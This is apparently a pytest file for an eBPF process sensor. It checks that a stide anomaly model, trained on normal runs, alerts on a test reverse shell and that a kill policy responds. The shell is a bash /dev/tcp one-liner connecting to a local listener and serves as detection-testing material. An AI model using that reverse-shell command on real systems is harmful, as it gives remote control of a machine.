"""`sensor run --model`: a model trained on real normal runs, the real sensor tracing what execs after it
starts, and an attack-like process (a reverse shell) the only one alerted on, then killed by policy."""
from __future__ import annotations

import hashlib
import json
import socket
import subprocess
import sys
import threading
import uuid

import pytest

from conftest import ROOT, wait_for
from learn_traces import WORK, record_normal, sensor, workdir

TRAIN = 5


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    root = tmp_path_factory.mktemp("live")
    work = workdir(root)
    runs = record_normal(root, work, TRAIN)
    model = root / "stide.json"
    r = sensor("model", "train", *map(str, runs.values()), "-o", str(model))
    assert r.returncode == 0, r.stderr
    return model, work


class QuietListener:
    """127.0.0.1: accepts one connection and says nothing, as an operator who has not typed yet."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.sock.settimeout(30)
        self.conn = None
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self):
        try:
            self.conn, _ = self.sock.accept()
        except OSError:
            pass

    def close(self):
        """Hangs up: the shell reads end of file."""
        self.sock.close()
        self.thread.join(30)
        if self.conn is not None:
            self.conn.close()


def tree_pids(data_dir, root: int) -> set[int]:
    """root and every process forked below it, from the sensor's own process events."""
    from sensor.store import read_events

    pids, grew = {root}, True
    events = [e for e in read_events(data_dir) if e["event"].get("dataset") == "process"]
    while grew:
        more = {e["process"]["pid"] for e in events if e["process"].get("parent", {}).get("pid") in pids}
        grew = bool(more - pids)
        pids |= more
    return pids


def test_run_with_model_alerts_on_the_reverse_shell_only_and_policy_answers(trained, start_sensor, tmp_path):
    model, work = trained
    doc = json.loads(model.read_text())
    rule = str(uuid.uuid5(uuid.NAMESPACE_URL, "sensor.model.stide"))
    policy = tmp_path / "policy.yaml"
    # a dry run: this sensor sees every process that starts on the machine, other tests' too
    policy.write_text(f"- action: kill\n  dry_run: true\n  match:\n    rule.id: {rule}\n")
    data = tmp_path / "data"
    s = start_sensor("--model", str(model), "--model-interval", "1", "--response-policy", str(policy),
                     "--rules", "none", "--no-metrics-enabled", "--no-files-enabled", "--no-network-enabled",
                     "--no-security-enabled", "--no-inventory-processes", "--no-services-enabled",
                     "--no-logins-enabled", data_dir=data)
    normal = []
    for i in range(2):  # one after the other: they share their work folder
        normal.append(subprocess.Popen(["/bin/sh", "-c", WORK.format(work=work, i=100 + i)], stdin=subprocess.DEVNULL))
        assert normal[-1].wait(60) == 0
    listener = QuietListener()
    shell = subprocess.Popen(["/bin/bash", "-c", f"exec 0<>/dev/tcp/127.0.0.1/{listener.port} 1>&0 2>&0; "
                              "exec /bin/sh"], stdin=subprocess.DEVNULL)
    try:
        # scored while it waits for commands (every model.interval), not only once it exits
        wait_for(lambda: s.events(event__module="model", process__pid=shell.pid), timeout=20,
                 what="the reverse shell's alert")
        assert shell.poll() is None
    finally:
        listener.close()  # the shell reads end of file and exits
        shell.wait(10)
    for p in normal:
        wait_for(lambda: s.events(event__action="exit", process__pid=p.pid), timeout=20, what="the exits")
    assert s.stop() == 0
    alerts = s.events(event__kind="alert", event__module="model")  # not the sensor's tamper alerts (the stop)
    by_pid = {a["process"]["pid"]: a for a in alerts}
    for p in normal:  # nothing the normal commands ran was alerted on
        mine = tree_pids(data, p.pid)
        assert len(mine) == 7 and not mine & set(by_pid), [by_pid[q]["process"] for q in mine & set(by_pid)]
    a = by_pid[shell.pid]
    m = a["sensor"]["model"]
    assert a["rule"]["id"] == rule and a["rule"]["author"].startswith("sensor") and a["rule"]["level"] == "high"
    assert a["event"]["dataset"] == "alert" and a["rule"]["name"] and a["process"]["entity_id"]
    assert m["method"] == "stide" and m["threshold"] == doc["threshold"] < m["score"] <= 2
    assert m["sha256"] == hashlib.sha256(model.read_bytes()).hexdigest()
    # bash became sh, a program the model knows: what it did, not its name, is what scored
    assert m["program"] == "sh" and m["program_seen"] and m["while_running"]
    known = {tuple(w) for w in doc["state"]["programs"]["sh"]["windows"]}
    assert m["top"] and not known & {tuple(t["sequence"]) for t in m["top"]}
    # one alert per process: not again when it exited
    assert sum(x["process"]["pid"] == shell.pid for x in alerts) == 1
    # the response policy matched the model's rule as it matches a Sigma rule's
    kill = [k for k in s.events(event__action="response-kill") if k["process"].get("pid") == shell.pid]
    assert [(k["sensor"]["response"]["result"], k["sensor"]["response"]["pids"]) for k in kill] == [("success", [shell.pid])]
    assert kill[0]["sensor"]["response"]["alert"]["id"] == a["event"]["id"]
    health = [e for e in s.events(event__dataset="sensor.health") if e["sensor"]["health"]["final"]][0]
    model_health = health["sensor"]["health"]["sources"]["model"]
    assert model_health["scored"] >= 1 + 2 * 7 and model_health["alerts"] >= 1


def test_bad_model_is_one_line(tmp_path):
    junk = tmp_path / "junk.json"
    junk.write_text("{}")
    r = sensor("run", "--data-dir", str(tmp_path / "d"), "--model", str(junk), "--console", "off", timeout=30)
    assert r.returncode == 2 and "not a model file" in r.stderr and len(r.stderr.strip().splitlines()) == 1


def test_model_on_the_windows_backend_is_refused_in_one_line(trained, tmp_path):
    import os

    r = subprocess.run([sys.executable, "-m", "sensor", "run", "--data-dir", str(tmp_path / "d"), "--model",
                        str(trained[0]), "--console", "off"], capture_output=True, text=True, cwd=ROOT, timeout=60,
                       env={**os.environ, "SENSOR_PLATFORM": "windows"}, stdin=subprocess.DEVNULL)
    assert r.returncode == 2 and "Linux (eBPF) only" in r.stderr and len(r.stderr.strip().splitlines()) == 1, r.stderr
